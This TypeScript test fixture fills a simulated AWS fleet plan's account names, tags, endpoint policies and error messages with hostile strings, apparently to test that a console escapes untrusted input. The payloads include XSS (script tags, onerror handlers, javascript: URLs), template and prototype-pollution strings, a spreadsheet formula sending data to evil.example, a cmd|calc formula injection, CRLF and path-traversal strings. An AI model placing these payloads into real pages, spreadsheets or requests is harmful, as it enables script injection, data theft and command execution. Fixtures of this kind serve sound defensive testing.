import type { FleetPlan } from "./types.ts";

/**
 * What somebody writes who may write into one AWS account of the company and wants to get at those who look at it. An
 * element named `hostile-markup` in a page is text that became markup.
 */
const texts = [
  '<hostile-markup></hostile-markup><script>document.title="hostile"</script>',
  '"><hostile-markup></hostile-markup><img src=x onerror=alert(1)>',
  "'-alert(1)-'</title></script><hostile-markup>",
  "javascript:alert(document.domain)",
  "[look](javascript:alert(1)) `$" + "{alert(1)}` {{constructor.constructor('alert(1)')()}}",
  "\u202Egnp.exe\u202D \u2066\u2069 \u200B\uFEFF right to left",
  '=HYPERLINK("https://evil.example/?"&A1,"look")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "Z̷͍̀a̶̝͝l̵̰̈g̸̲̾o̶̤͗ ".repeat(8),
  "\u{1F4A5}".repeat(100),
  "W".repeat(256),
  "a\tb\nc\u0085d\u2028e",
  "%00%0d%0aset-cookie:a=b ../../etc/passwd",
  "__proto__",
];

/** A tag's value, of which AWS takes 256 characters. */
const tagText = (n: number) => (texts[n % texts.length] as string).slice(0, 256);
const longText = (n: number, length: number) => `${texts[n % texts.length]} `.repeat(length).slice(0, length);

function tagsOf(n: number): Record<string, string> {
  const key = tagText(n + 5).slice(0, 128);
  return {
    Name: tagText(n),
    team: tagText(n + 1),
    env: tagText(n + 2),
    app: tagText(n + 3),
    [key]: tagText(n + 4),
  };
}

/** Puts hostile text wherever people of one account can write some: names, tags, policies, and AWS's own errors that quote it. */
export function makeHostile(plan: FleetPlan): FleetPlan {
  for (const [n, account] of plan.accounts.entries()) {
    account.name = tagText(n).slice(0, 50);
    account.tags = tagsOf(n);
  }
  for (const [n, vpc] of plan.vpcs.entries()) vpc.tags = tagsOf(n);
  for (const [n, service] of plan.services.entries()) service.tags = tagsOf(n);
  for (const [n, balancer] of plan.loadBalancers.entries()) balancer.tags = tagsOf(n);
  for (const [n, endpoint] of plan.endpoints.entries()) {
    endpoint.tags = tagsOf(n);
    endpoint.policyDocument = JSON.stringify({
      Version: "2012-10-17",
      Statement: [
        {
          Sid: longText(n, 9_000),
          Effect: "Deny",
          Principal: "*",
          Action: "*",
          Resource: "*",
          Condition: { StringNotEquals: { [tagText(n)]: tagText(n + 1) } },
        },
        { Effect: "Allow", Principal: { AWS: tagText(n) }, Action: tagText(n + 1), Resource: tagText(n + 2) },
      ],
    });
    if (n % 3 !== 0) continue;
    endpoint.state = "failed";
    endpoint.lastError = { code: tagText(n), message: longText(n, 100_000) };
    endpoint.failureReason = longText(n + 1, 100_000);
  }
  return plan;
}
